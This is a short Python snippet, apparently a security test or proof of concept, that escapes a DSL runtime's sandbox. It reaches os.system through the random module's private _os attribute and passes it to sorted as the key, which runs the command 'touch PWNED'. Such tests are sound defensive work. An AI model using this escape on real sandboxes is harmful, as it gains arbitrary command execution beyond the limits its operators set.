# Attack: import the standard `random` module through the runtime's namespace, reach its private
# `_os` and hand `os.system` to `sorted` as its key, which calls it on every item.
from dsl.runtime.engine import random as r

sorted(["touch PWNED"], key=r._os.system)
